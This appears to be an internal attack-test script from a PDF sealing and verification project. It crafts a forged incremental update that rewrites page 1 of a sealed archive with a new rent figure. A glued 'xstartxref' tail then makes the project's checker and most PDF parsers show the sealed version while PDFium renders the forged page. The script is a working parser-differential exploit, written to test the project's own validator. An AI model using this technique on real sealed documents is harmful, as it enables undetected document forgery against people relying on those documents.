// a23: two `startxref` searches. sealcheck (findLastStartxref: the last SUBSTRING "startxref" in the last 4 KiB),
// poppler, pdf.js, qpdf and PDFBox find the last occurrence of the bytes; PDFium's BackwardsSearchToWord takes only a
// WHOLE word (IsWholeWord: a regular character glued before it, as in `xstartxref`, disqualifies it) and goes on to the
// one before. The file: the broker's real archive; an update U1 (after the sealed %%EOF) re-defining page 1 with a new
// content stream ("Husleje: 1 kr."), its table, trailer (/Prev the sealed table), `startxref U1 %%EOF`; then
// `xstartxref <the sealed table's offset> %%EOF`. Everyone but PDFium starts at the sealed table: for sealcheck U1 is
// bytes after the last revision's %%EOF (trailingBytes, allowed), and its object headers are written mid-line
// (`endobj 4 0 obj`), which the after-the-end scan (unlisted.ts, line starts only) does not take.
// modes: glued (`xstartxref`), word (` startxref`: PDFium takes it too, the control), u1 (no tail: U1 is the last
// revision, sealcheck must see the new page 1).
//   npx tsx scripts/attack-s18/tail-startxref.ts <glued|word|u1>   REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "glued";
if (!["glued", "word", "u1"].includes(mode)) throw new Error("usage: <glued|word|u1>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const B = new NumberAllocator(doc).take();
const sealedXref = doc.revisions.at(-1)!.startxref;
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number) => `${String(off).padStart(10, "0")} 00000 n \n`;
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
push(latin("endobj "));
const offP = at;
push(latin(`${P} 0 obj ${forgedPage} endobj `));
const offB = at;
push(latin(`${B} 0 obj << /Length ${content.length} >> stream\n${content}\nendstream endobj\n`));
const offX = at;
push(
  latin(
    `xref\n${P} 1\n${entry(offP)}${B} 1\n${entry(offB)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${sealedXref} >>\nstartxref\n${offX}\n%%EOF\n`,
  ),
);
if (mode !== "u1") push(latin(`${mode === "glued" ? "x" : " "}startxref\n${sealedXref}\n%%EOF\n`));
const file = save(work(`s18-tail-startxref-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`tail-startxref ${mode}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(0, 120))}`);
